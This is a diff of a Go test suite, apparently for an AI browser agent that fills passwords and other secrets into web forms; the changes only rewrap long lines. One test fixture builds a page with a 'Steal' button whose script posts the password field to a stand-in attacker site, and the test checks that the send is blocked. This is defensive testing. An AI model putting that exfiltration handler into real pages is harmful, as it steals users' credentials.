@@ -48,7 +48,8 @@ const steal = u => `
 	}
 	for path := range s.Pages {
 		obs := browsertest.Open(ctx, t, p, s.URL+path)
-		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, browsertest.Login("password", browsertest.Hunter, s.URL)), path)
+		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
+			browsertest.Login("password", browsertest.Hunter, s.URL)), path)
 		placeholder, _, _ := strings.Cut(browsertest.InputValues(ctx, t, b), "\n")
 		require.GreaterOrEqual(t, len(placeholder), 16, path)
 		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Steal").Ref), path)
@@ -83,7 +84,8 @@ func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
 	}
 	for _, path := range []string{"/form", "/fetch"} {
 		obs := browsertest.Open(ctx, t, p, s.URL+path)
-		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, browsertest.Login("password", browsertest.Hunter, s.URL)))
+		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
+			browsertest.Login("password", browsertest.Hunter, s.URL)))
 		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref))
 		require.Eventually(t, func() bool {
 			return strings.Contains(browsertest.Observe(ctx, t, p).Outline, "a redirect that would take")
@@ -93,7 +95,8 @@ func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
 	require.Len(t, s.RequestsTo("/away"), 2)
 
 	obs := browsertest.Open(ctx, t, p, s.URL+"/near")
-	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, browsertest.Login("password", browsertest.Hunter, s.URL)))
+	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
+		browsertest.Login("password", browsertest.Hunter, s.URL)))
 	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref))
 	require.Contains(t, browsertest.Settle(ctx, t, p).Outline, "Welcome")
 	there := s.RequestsTo("/there")
@@ -118,7 +121,8 @@ func TestEchoedSecretsAreScrubbed(t *testing.T) {
 			pw, base64.StdEncoding.EncodeToString([]byte("user:"+pw)))
 	}
 	obs := browsertest.Open(ctx, t, p, s.URL+"/")
-	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, browsertest.Login("password", secret, s.URL)))
+	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
+		browsertest.Login("password", secret, s.URL)))
 	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref))
 	obs = browsertest.Settle(ctx, t, p)
 	browsertest.RequireUnseen(t, secret, obs.Outline, obs.URL, obs.Title, fmt.Sprint(obs.Elements))
@@ -140,14 +144,16 @@ func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
 	ctx, p, b := openPage(t)
 	evil := browsertest.NewSite(t, nil)
 	s := browsertest.NewSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', {method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password><button>Log in</button></form>
-<button onclick="fetch('` + evil.URL + `/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button><button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy><button onclick="copy.value = p.value">Move</button>`})
+<button onclick="fetch('` + evil.URL +
+		`/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button><button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy><button onclick="copy.value = p.value">Move</button>`})
 	obs := browsertest.Open(ctx, t, p, s.URL+"/")
 	fill := browsertest.Login("password", browsertest.Hunter, s.URL)
 	fill.Direct = true
 	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill))
 	seen, _, _ := strings.Cut(browsertest.InputValues(ctx, t, b), "\n")
 	require.True(t, seen == browsertest.Hunter, "the page holds the value")
-	require.Empty(t, browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value, "an empty field says so, or nobody would fill it")
+	require.Empty(t, browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value,
+		"an empty field says so, or nobody would fill it")
 
 	before, err := p.Screenshot(ctx, true)
 	require.NoError(t, err)
@@ -179,14 +185,16 @@ func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
 	for range len([]rune(browsertest.Hunter)) - 3 {
 		require.NoError(t, p.Press(ctx, "Backspace"))
 	}
-	require.Equal(t, "[secret]", browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value, "nor where the model has written before")
+	require.Equal(t, "[secret]", browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value,
+		"nor where the model has written before")
 
 	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Steal").Ref))
 	require.Contains(t, browsertest.Settle(ctx, t, p).Outline, "note: blocked: ")
 	require.Empty(t, evil.RequestsTo("/steal"))
 	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref))
 	require.Eventually(t, func() bool { return len(s.RequestsTo("/login")) == 1 }, 10*time.Second, 10*time.Millisecond)
-	require.True(t, s.RequestsTo("/login")[0].Body == "<xml>"+browsertest.Hunter+"</xml>", "the site received the value as its page wrote it")
+	require.True(t, s.RequestsTo("/login")[0].Body == "<xml>"+browsertest.Hunter+"</xml>",
+		"the site received the value as its page wrote it")
 }
 
 // TestInterceptionEndsWithItsReason counts on requests not being held up for
@@ -195,7 +203,8 @@ func TestInterceptionEndsWithItsReason(t *testing.T) {
 	ctx, p, _ := openPage(t)
 	s := browsertest.NewSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`, "/login": "<h1>Welcome</h1>"})
 	obs := browsertest.Open(ctx, t, p, s.URL+"/")
-	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, browsertest.Login("password", browsertest.Hunter, s.URL)))
+	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
+		browsertest.Login("password", browsertest.Hunter, s.URL)))
 	require.True(t, p.Guarded())
 	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref))
 	require.Contains(t, browsertest.Settle(ctx, t, p).Outline, "Welcome")
@@ -216,7 +225,8 @@ func TestLoginGoesOverSeveralPages(t *testing.T) {
 		"/done":     "<h1>Welcome</h1>",
 	})
 	obs := browsertest.Open(ctx, t, p, s.URL+"/")
-	for _, fill := range []browser.Fill{browsertest.Login("username", "bot@example.com", s.URL), browsertest.Login("password", browsertest.Hunter, s.URL), browsertest.Login("totp", "123456", s.URL)} {
+	for _, fill := range []browser.Fill{browsertest.Login("username", "bot@example.com", s.URL),
+		browsertest.Login("password", browsertest.Hunter, s.URL), browsertest.Login("totp", "123456", s.URL)} {
 		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, fill))
 		require.NoError(t, p.Press(ctx, "Enter"))
 		obs = browsertest.Settle(ctx, t, p)
